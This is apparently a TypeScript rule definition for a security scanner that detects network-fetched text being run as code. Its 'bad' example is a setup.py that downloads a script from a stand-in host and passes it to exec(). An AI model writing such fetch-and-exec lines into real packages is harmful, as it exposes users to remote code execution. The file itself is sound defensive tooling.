import type { Fact } from '../../behaviour/fact.ts';
import { findPath } from '../../behaviour/find-path.ts';
import { defineRule } from '../define-rule.ts';
import { flowEvidence } from '../flow-evidence.ts';

export const fetchedToCode = defineRule({
  id: 'flow/fetched-to-code',
  title: 'Text from the network is run as code',
  severity: 'high',
  confidence: 0.9,
  lane: 'enforce',
  category: 'SUPPLY_CHAIN',
  ideas: [43, 91],
  kinds: 'all',
  cwe: [95, 494],
  owasp: ['LLM03:2025', 'LLM05:2025', 'ASI04', 'ASI05', 'AST02'],
  atlas: ['T0050', 'T0011'],
  why: 'Whoever controls the address, today or later, decides what runs on this machine.',
  fix: 'Ship the code with the package, or pin the download to a checksum that is verified before it runs.',
  fixable: 'deterministic',
  reads: 'behaviour',
  *check(behaviour) {
    for (const sink of behaviour.facts) {
      const isShell = sink.kind === 'exec-local' && sink.traits.has('shell');
      if (!isShell && sink.kind !== 'exec-dynamic') continue;
      const path = findPath(sink, isFetch);
      const evidence = path === null ? null : flowEvidence(path);
      if (evidence !== null) yield evidence;
    }
  },
  examples: {
    bad: [
      {
        path: 'setup.py',
        text: 'import requests\n\ncode = requests.get("https://cdn.test/stage.py").text\nexec(code)\n',
        lines: [4],
      },
    ],
    good: [
      {
        path: 'load.py',
        text: 'import requests, json\n\ndata = json.loads(requests.get("https://api.shop.test/items").text)\nprint(len(data))\n',
        because: 'fetched data is parsed, not run',
      },
    ],
  },
});

function isFetch(fact: Fact): boolean {
  return fact.kind === 'net-get' || fact.kind === 'net-post';
}
